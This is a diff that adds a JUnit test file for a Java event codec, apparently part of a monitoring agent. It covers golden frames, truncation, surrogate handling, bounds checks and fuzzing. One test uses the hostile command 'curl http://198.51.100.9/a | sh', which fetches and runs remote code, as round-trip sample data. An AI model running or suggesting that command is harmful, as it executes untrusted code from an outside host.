@@ -1,0 +1,150 @@
+package bzh.vigie.wire;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+import static org.junit.jupiter.api.Assertions.fail;
+
+import bzh.vigie.event.Event;
+import bzh.vigie.event.Item;
+import bzh.vigie.event.Moment;
+import bzh.vigie.event.ReasonCode;
+import bzh.vigie.event.WatchState;
+import bzh.vigie.v1.EventBatch;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Instant;
+import java.util.Arrays;
+import java.util.HashSet;
+import java.util.HexFormat;
+import java.util.List;
+import java.util.Random;
+import java.util.Set;
+import org.junit.jupiter.api.Test;
+
+/** The codec against golden frames: what an old agent wrote must be read for ever. */
+final class EventCodecTest {
+    private static final Path GOLDEN = Path.of("src/test/resources/golden");
+
+    @Test
+    void everyKindHasAGoldenFrameThatStaysTheSame() throws IOException, MalformedBatchException {
+        for (Event event : Samples.all()) {
+            Path file = GOLDEN.resolve(event.getClass().getSimpleName() + ".hex");
+            byte[] encoded = EventCodec.encode(List.of(event));
+            String hex = HexFormat.of().formatHex(encoded);
+            if (!Files.exists(file)) {
+                Files.writeString(file, hex + "\n");
+                fail(file + " did not exist and was written: read it, then commit it");
+            }
+            assertEquals(Files.readString(file).strip(), hex, () -> file + " differs: the wire format changed");
+            assertEquals(List.of(event), EventCodec.decode(HexFormat.of().parseHex(hex)));
+        }
+    }
+
+    @Test
+    void samplesCoverEveryKind() {
+        Set<Class<?>> kinds = new HashSet<>(Arrays.asList(Event.class.getPermittedSubclasses()));
+        Samples.all().forEach(event -> kinds.remove(event.getClass()));
+        assertEquals(Set.of(), kinds);
+    }
+
+    @Test
+    void aBatchKeepsItsOrder() throws MalformedBatchException {
+        assertEquals(Samples.all(), EventCodec.decode(EventCodec.encode(Samples.all())));
+    }
+
+    @Test
+    void anItemComesBackAsItWas() throws MalformedBatchException {
+        Item item = Samples.item("curl http://198.51.100.9/a | sh");
+        assertEquals(item, EventCodec.decodeItem(EventCodec.encodeItem(item)));
+    }
+
+    @Test
+    void aTextOverItsBoundIsCutAndTheCutIsSeen() throws MalformedBatchException {
+        Event long_ = state("é".repeat(Bounds.TEXT + 1));
+        Event.SourceState back = (Event.SourceState)
+                EventCodec.decode(EventCodec.encode(List.of(long_))).getFirst();
+        assertEquals(Bounds.TEXT, back.detail().length());
+        assertTrue(back.detail().endsWith("é…"));
+    }
+
+    @Test
+    void aLoneSurrogateIsReplacedAndAPairIsNotCutInTwo() throws MalformedBatchException {
+        Event lone = state("a\uD800b");
+        assertEquals(
+                "a\uFFFDb",
+                ((Event.SourceState) EventCodec.decode(EventCodec.encode(List.of(lone)))
+                                .getFirst())
+                        .detail());
+        Event pairs = state("x" + "😀".repeat(Bounds.TEXT / 2));
+        Event.SourceState back = (Event.SourceState)
+                EventCodec.decode(EventCodec.encode(List.of(pairs))).getFirst();
+        assertTrue(
+                back.detail().endsWith("😀…"),
+                back.detail().substring(back.detail().length() - 4));
+    }
+
+    @Test
+    void whatIsOverABoundIsRefusedByName() {
+        byte[] batch = EventBatch.newBuilder()
+                .setBootId("b")
+                .addEvents(bzh.vigie.v1.Event.newBuilder()
+                        .setSource("s".repeat(Bounds.ID + 1))
+                        .setAgentState(bzh.vigie.v1.AgentState.newBuilder()))
+                .build()
+                .toByteArray();
+        MalformedBatchException refused = assertThrows(MalformedBatchException.class, () -> EventCodec.decode(batch));
+        assertTrue(String.valueOf(refused.getMessage()).contains("source has 129 characters"), refused.getMessage());
+    }
+
+    @Test
+    void anUnknownKindOrConstantIsRefusedNotGuessed() {
+        byte[] noKind = EventBatch.newBuilder()
+                .setBootId("b")
+                .addEvents(bzh.vigie.v1.Event.newBuilder().setSource("s"))
+                .build()
+                .toByteArray();
+        assertThrows(MalformedBatchException.class, () -> EventCodec.decode(noKind));
+        byte[] noAction = EventBatch.newBuilder()
+                .setBootId("b")
+                .addEvents(bzh.vigie.v1.Event.newBuilder()
+                        .setSource("s")
+                        .setAgentState(bzh.vigie.v1.AgentState.newBuilder().setActionValue(77)))
+                .build()
+                .toByteArray();
+        assertThrows(MalformedBatchException.class, () -> EventCodec.decode(noAction));
+    }
+
+    @Test
+    void eventsOfTwoBootsDoNotShareABatch() {
+        Event other =
+                new Event.SourceState(new Moment(Instant.EPOCH, "other", 0), "s", WatchState.LIVE, ReasonCode.NONE, "");
+        assertThrows(
+                IllegalArgumentException.class,
+                () -> EventCodec.encode(List.of(Samples.all().getFirst(), other)));
+    }
+
+    @Test
+    void rubbishIsRefusedAndNeverThrowsAnythingElse() {
+        Random random = new Random(20_260_831);
+        byte[] good = EventCodec.encode(Samples.all());
+        for (int round = 0; round < 20_000; round++) {
+            byte[] bad = good.clone();
+            for (int flips = 1 + random.nextInt(8); flips > 0; flips--) {
+                bad[random.nextInt(bad.length)] = (byte) random.nextInt(256);
+            }
+            byte[] cut = random.nextBoolean() ? bad : Arrays.copyOf(bad, random.nextInt(bad.length));
+            try {
+                EventCodec.decode(cut);
+            } catch (MalformedBatchException expected) {
+                assertTrue(expected.getMessage() != null);
+            }
+        }
+    }
+
+    private static Event state(String detail) {
+        return new Event.SourceState(
+                new Moment(Instant.EPOCH, "boot", 0), "s", WatchState.LIVE, ReasonCode.NONE, detail);
+    }
+}
